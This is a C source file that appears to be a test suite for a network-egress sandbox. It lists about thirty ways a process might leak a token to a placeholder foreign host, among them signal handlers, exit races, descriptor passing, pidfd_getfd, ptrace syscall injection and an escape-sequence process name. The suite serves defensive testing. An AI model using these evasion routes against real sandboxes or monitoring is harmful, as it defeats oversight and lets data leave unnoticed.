/* How and when a process leaks: handlers, exits, sandboxes, passed and inherited descriptors, ptrace. */
#include "common.h"
#include <dirent.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>

static volatile int handler_result = 2;

static void handler(int signal)
{
    (void)signal;
    handler_result = leak_tcp4(NULL);
}

static int signal_handler(char **args)
{
    (void)args;
    struct sigaction action = {.sa_handler = handler};
    sigaction(SIGUSR1, &action, NULL);
    raise(SIGUSR1);
    return handler_result;
}

/* The handler runs while an allowed blocking call is under way: poll in a connected state. */
static int signal_in_syscall(char **args)
{
    (void)args;
    struct sigaction action = {.sa_handler = handler};
    sigaction(SIGALRM, &action, NULL);
    ualarm(30000, 0);
    poll(NULL, 0, 2000);
    return handler_result;
}

static void at_exit(void)
{
    _exit(leak_tcp4(NULL));
}

static int atexit_leak(char **args)
{
    (void)args;
    atexit(at_exit);
    return 0;
}

static void destructor(void *unused)
{
    (void)unused;
    handler_result = leak_tcp4(NULL);
}

static void *thread_with_key(void *unused)
{
    (void)unused;
    pthread_key_t key;
    pthread_key_create(&key, destructor);
    pthread_setspecific(key, &key);
    return NULL;
}

static int tls_destructor(char **args)
{
    (void)args;
    pthread_t thread;
    pthread_create(&thread, NULL, thread_with_key, NULL);
    pthread_join(thread, NULL);
    return handler_result;
}

static void *connect_for_ever(void *unused)
{
    (void)unused;
    for (int i = 0; i < 100000; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct address to = at(FOREIGN4, PORT);
        if (connect(fd, &to.any, to.length) == 0 && write(fd, TOKEN, sizeof TOKEN - 1) < 0)
            return NULL;
        close(fd);
    }
    return NULL;
}

/* Processes end by exit_group while four of their threads are in the middle of connect. */
static int exit_race(char **args)
{
    (void)args;
    for (int round = 0; round < 10; round++) {
        pid_t child = fork();
        if (child == 0) {
            pthread_t thread;
            for (int i = 0; i < 4; i++)
                pthread_create(&thread, NULL, connect_for_ever, NULL);
            /* The first may be too early for any to get through, where calls take longer. */
            sleep_ms(3 + 5 * round);
            _exit(0);
        }
        if (wait_for(child) != 0)
            return 1;
    }
    return 0;
}

/* Its own filter: everything but getppid is allowed. */
static int install_filter(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {LENGTH(code), code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program);
}

static int own_filter(char **args)
{
    if (install_filter() != 0)
        return refused("PR_SET_SECCOMP");
    return leak_tcp4(args);
}

static int undumpable(char **args)
{
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    return leak_tcp4(args);
}

static int undumpable_udp(char **args)
{
    (void)args;
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    return sendto_and_close(open_socket(AF_INET, SOCK_DGRAM, 0), at(FOREIGN4, PORT), 0);
}

static int userns(char **args)
{
    if (unshare(CLONE_NEWUSER) != 0)
        return refused("unshare") + 1;
    return leak_tcp4(args);
}

/* Root becomes nobody without exec: not dumpable, and of another user. */
static int setuid_nobody(char **args)
{
    if (setgid(65534) != 0 || setuid(65534) != 0)
        broken("setuid");
    return leak_tcp4(args);
}

static int chrooted(char **args)
{
    if (chroot("/proc/self/cwd") != 0)
        return refused("chroot") + 1;
    return leak_tcp4(args);
}

/* A name that tries to break out of its line. */
static int odd_name(char **args)
{
    prctl(PR_SET_NAME, "a\n\"\033[31m\xff b");
    return leak_tcp4(args);
}

static int dup_connect(char **args)
{
    (void)args;
    int fd = open_socket(AF_INET, SOCK_STREAM, 0);
    int high = fcntl(fd, F_DUPFD, 700);
    close(fd);
    return connect_and_deliver(high, at(FOREIGN4, PORT));
}

static int fd_zero(char **args)
{
    (void)args;
    close(0);
    int fd = open_socket(AF_INET, SOCK_STREAM, 0);
    return fd != 0 ? 2 : connect_and_deliver(fd, at(FOREIGN4, PORT));
}

/* The socket is made by one process and connected by another, to which it was passed. */
static int scm_rights(char **args)
{
    (void)args;
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
        broken("socketpair");
    char byte = 0;
    struct iovec data = {&byte, 1};
    union {
        struct cmsghdr head;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {0};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control,
                             .msg_controllen = sizeof control};
    pid_t child = fork();
    if (child == 0) {
        if (recvmsg(pair[1], &message, 0) != 1)
            _exit(2);
        int fd;
        memcpy(&fd, CMSG_DATA(&control.head), sizeof fd);
        _exit(connect_and_deliver(fd, at(FOREIGN4, PORT)));
    }
    int fd = open_socket(AF_INET, SOCK_STREAM, 0);
    control.head = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof fd), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(&control.head), &fd, sizeof fd);
    if (sendmsg(pair[0], &message, 0) != 1)
        return refused("sendmsg of the descriptor") + 1;
    close(fd);
    return wait_for(child);
}

/* The harness connected the descriptor given as args[0] before the program started. */
static int inherited_write(char **args)
{
    return deliver(atoi(args[0]));
}

static int inherited_sendmsg(char **args)
{
    struct iovec data = {TOKEN, sizeof TOKEN - 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1};
    return sendmsg(atoi(args[0]), &message, 0) < 0 ? refused("sendmsg") : 0;
}

static int inherited_send(char **args)
{
    return send(atoi(args[0]), TOKEN, sizeof TOKEN - 1, 0) < 0 ? refused("send") : 0;
}

/* Not connected yet: an inherited socket is connected by the program. */
static int inherited_connect(char **args)
{
    return connect_and_deliver(atoi(args[0]), at(FOREIGN4, PORT));
}

/* A process outside the tree hands a socket over to whoever connects to it. */
static int handed(void)
{
    struct address giver = at_path("giver.sock");
    int from = open_socket(AF_UNIX, SOCK_STREAM, 0), fd = -1;
    if (connect(from, &giver.any, giver.length) != 0)
        return -1;
    char byte;
    struct iovec data = {&byte, 1};
    union {
        struct cmsghdr head;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {0};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control,
                             .msg_controllen = sizeof control};
    if (recvmsg(from, &message, 0) != 1 || control.head.cmsg_type != SCM_RIGHTS)
        broken("recvmsg of the descriptor");
    memcpy(&fd, CMSG_DATA(&control.head), sizeof fd);
    close(from);
    return fd;
}

static int handed_write(char **args)
{
    (void)args;
    int fd = handed();
    return fd < 0 ? refused("connect to the giver") : deliver(fd);
}

static int handed_connect(char **args)
{
    (void)args;
    return connect_and_deliver(handed(), at(FOREIGN4, PORT));
}

static int handed_sendto(char **args)
{
    (void)args;
    return sendto_and_close(handed(), at(FOREIGN4, PORT), 0);
}

static int handed_sendmsg(char **args)
{
    (void)args;
    struct iovec data = {TOKEN, sizeof TOKEN - 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1};
    return sendmsg(handed(), &message, 0) < 0 ? refused("sendmsg") : 0;
}

static int handed_sendmmsg(char **args)
{
    (void)args;
    struct iovec data = {TOKEN, sizeof TOKEN - 1};
    struct mmsghdr message = {.msg_hdr = {.msg_iov = &data, .msg_iovlen = 1}};
    return sendmmsg(handed(), &message, 1, 0) < 0 ? refused("sendmmsg") : 0;
}

/* args: a process outside the tree, and its descriptor that is connected to the witness. */
static int pidfd_getfd_leak(char **args)
{
    int process = syscall(SYS_pidfd_open, atoi(args[0]), 0);
    if (process < 0)
        return refused("pidfd_open") + 1;
    int fd = syscall(SYS_pidfd_getfd, process, atoi(args[1]), 0);
    if (fd < 0)
        return refused("pidfd_getfd");
    return deliver(fd);
}

/* args: a process outside the tree. Others may be tracing it at this moment. */
static int ptrace_outside(char **args)
{
    for (int i = 0; i < 100; i++) {
        if (ptrace(PTRACE_SEIZE, atoi(args[0]), 0, 0) == 0)
            return 0;
        if (errno != EPERM)
            break;
        sleep_ms(10);
    }
    return refused("PTRACE_SEIZE");
}

/* The same; nothing is written. */
static int write_outside(char **args)
{
    char byte;
    struct iovec none = {&byte, 0};
    return syscall(SYS_process_vm_writev, atoi(args[0]), &none, 1, &none, 1, 0) < 0 ? refused("process_vm_writev") : 0;
}

/* The kernel is asked to resolve a name; it has nobody here who could. */
static int ask_key(char **args)
{
    (void)args;
    return syscall(SYS_request_key, "dns_resolver", "a:leak.example", TOKEN, 0) < 0 ? refused("request_key") : 1;
}

/* A program in the kernel could send packets; there is none under this descriptor. */
static int run_in_kernel(char **args)
{
    (void)args;
    unsigned attributes[32] = {~0U};
    return syscall(SYS_bpf, 10 /* BPF_PROG_TEST_RUN */, attributes, sizeof(attributes)) < 0 ? refused("bpf") : 1;
}

static int mount_network(char **args)
{
    (void)args;
    return syscall(SYS_mount, FOREIGN4 ":/", "/proc", "nfs", 0, NULL) < 0 ? refused("mount") : 1;
}

static int open_network(char **args)
{
    (void)args;
    return syscall(430 /* fsopen */, "nfs4", 0) < 0 ? refused("fsopen") : 1;
}

#ifdef __x86_64__
/* A tracer within the tree turns its child's getppid into connect. */
static int ptrace_inject(char **args)
{
    (void)args;
    static struct address to;
    to = at(FOREIGN4, PORT);
    int ends[2];
    if (pipe(ends) != 0)
        broken("pipe");
    pid_t child = fork();
    if (child == 0) {
        if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0)
            _exit(refused("PTRACE_TRACEME"));
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        raise(SIGSTOP);
        long result = syscall(SYS_getppid, fd, &to, to.length);
        if (result != 0) {
            errno = -result;
            _exit(refused("injected connect"));
        }
        _exit(deliver(fd));
    }
    int status, turned = 0;
    waitpid(child, &status, 0);
    if (!WIFSTOPPED(status))
        return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
    while (ptrace(PTRACE_SYSCALL, child, 0, 0) == 0 && waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, 0, &registers);
        if (!turned && registers.orig_rax == SYS_getppid) {
            registers.orig_rax = SYS_connect;
            ptrace(PTRACE_SETREGS, child, 0, &registers);
            turned = 1;
        }
    }
    return WIFEXITED(status) ? WEXITSTATUS(status) : 2;
}
#endif

const struct vector process_vectors[] = {
    {"signal-handler", signal_handler},
    {"signal-in-syscall", signal_in_syscall},
    {"atexit", atexit_leak},
    {"tls-destructor", tls_destructor},
    {"exit-race", exit_race},
    {"own-filter", own_filter},
    {"undumpable", undumpable},
    {"undumpable-udp", undumpable_udp},
    {"userns", userns},
    {"setuid-nobody", setuid_nobody},
    {"chrooted", chrooted},
    {"odd-name", odd_name},
    {"dup", dup_connect},
    {"descriptor-zero", fd_zero},
    {"scm-rights", scm_rights},
    {"inherited-write", inherited_write},
    {"inherited-sendmsg", inherited_sendmsg},
    {"inherited-send", inherited_send},
    {"inherited-connect", inherited_connect},
    {"handed-write", handed_write},
    {"handed-connect", handed_connect},
    {"handed-sendto", handed_sendto},
    {"handed-sendmsg", handed_sendmsg},
    {"handed-sendmmsg", handed_sendmmsg},
    {"pidfd-getfd", pidfd_getfd_leak},
    {"ptrace-outside", ptrace_outside},
    {"write-outside", write_outside},
    {"request-key", ask_key},
    {"bpf-run", run_in_kernel},
    {"mount-network", mount_network},
    {"fsopen-network", open_network},
#ifdef __x86_64__
    {"ptrace-inject", ptrace_inject},
#endif
    {NULL, NULL},
};
